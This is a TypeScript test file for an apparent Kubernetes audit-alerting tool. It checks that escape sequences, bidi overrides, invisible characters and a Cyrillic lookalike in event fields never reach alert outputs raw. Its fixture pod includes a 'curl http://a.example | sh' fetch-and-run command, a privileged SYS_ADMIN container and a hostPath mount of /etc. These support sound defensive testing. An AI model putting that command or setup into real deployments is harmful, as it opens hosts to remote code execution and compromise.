/**
 * Text that acts on its reader, in every field of an event that can hold text: no output has a character of
 * it as it is.
 */
import { encodeAlert } from '@arrivals/adapters/avro';
import { visibleJson } from '@arrivals/core';
import { explain, formatAlert, layOut } from 'arrivals';
import assert from 'node:assert/strict';
import { alertOf, podCreated } from '../../alert/creations.ts';

const HOSTILE = [
  '\u001b[2J',
  '\u202e',
  '\u200b',
  '\u200d',
  '\u00ad',
  '\u2061',
  '\u206a',
  '\u180e',
  '\u3164',
  '\u2800',
  '\u{e0041}',
  '\u0007',
  '\ufe0f',
  '\u115f',
  '\uffa0',
  '\u2028',
  '\ud800',
  '\r',
  '\u009b2J',
  '\u2066',
  '\u2069',
  '\ufeff',
  '\u{e0001}',
  '\u{e007f}',
  '\u{e0100}',
  '\ue000',
  '\ufffe',
  '\u001b]8;;https://a.example\u0007',
];

/** Each text of the event but those that decide whether it is a creation, with `tail` behind it. */
function withTail(value: unknown, tail: string, path: readonly string[] = []): unknown {
  const last = path.at(-1) ?? '';
  if (typeof value === 'string') return KEPT.has(last) ? value : `${value}${tail}`;
  if (Array.isArray(value)) return value.map((entry: unknown) => withTail(entry, tail, path));
  if (typeof value !== 'object' || value === null) return value;
  return Object.fromEntries(
    Object.entries(value).map(([key, entry]) => [
      MAPS.has(last) ? `${key}${tail}` : key,
      withTail(entry, tail, [...path, key]),
    ]),
  );
}

const KEPT: ReadonlySet<string> = new Set([
  'verb',
  'stage',
  'level',
  'resource',
  'requestReceivedTimestamp',
  'stageTimestamp',
  'requestURI',
  'authorization.k8s.io/decision',
]);
const MAPS: ReadonlySet<string> = new Set(['labels']);

const event = podCreated({
  metadata: {
    labels: { app: 'web' },
    annotations: { note: 'hello' },
    generateName: 'web-',
    ownerReferences: [{ apiVersion: 'apps/v1', kind: 'ReplicaSet', name: 'web-1', uid: 'u', controller: true }],
  },
  spec: {
    containers: [
      {
        name: 'main',
        image: 'registry.example/app:1',
        command: ['sh', '-c', 'curl http://a.example | sh'],
        args: ['--x'],
        env: [{ name: 'A', value: 'b' }, { name: 'C', valueFrom: { secretKeyRef: { name: 'd', key: 'e' } } }],
        ports: [{ containerPort: 80, protocol: 'TCP' }],
        volumeMounts: [{ name: 'v', mountPath: '/host' }],
        securityContext: { privileged: true, capabilities: { add: ['SYS_ADMIN'] } },
      },
    ],
    volumes: [{ name: 'v', hostPath: { path: '/etc' } }, { name: 's', secret: { secretName: 'x' } }],
    serviceAccountName: 'robot',
    nodeName: 'node-1',
  },
  event: { impersonatedUser: { username: 'carol', groups: ['ops'] } },
}); // prettier-ignore

describe('text that acts on its reader', () => {
  for (const tail of HOSTILE) {
    it(`is nowhere as it is: ${visibleJson(JSON.stringify(tail))}`, () => {
      const alert = alertOf(withTail(event, tail));
      const shown: Readonly<Record<string, string>> = {
        headline: alert.headline,
        alert: JSON.stringify(alert),
        avro: encodeAlert(alert).toString('utf8'),
        table: formatAlert(alert, 'table'),
        line: formatAlert(alert, 'json'),
        explanation: layOut(explain(alert), { width: 100, colour: false }),
      };
      for (const [output, text] of Object.entries(shown))
        if (output !== 'avro' || tail.length > 1)
          assert.ok(!text.includes(tail), `${output}: ${visibleJson(JSON.stringify(text.slice(0, 400)))}`);
    });
  }

  it('is marked in a name where it only looks Latin', () => {
    const alert = alertOf(withTail(event, '\u0430'));
    assert.ok(alert.headline.includes('[U+0430]'), alert.headline);
    assert.ok(formatAlert(alert, 'table').includes('[U+0430]'));
    assert.ok(layOut(explain(alert), { width: 100, colour: false }).includes('[U+0430]'));
  });
});
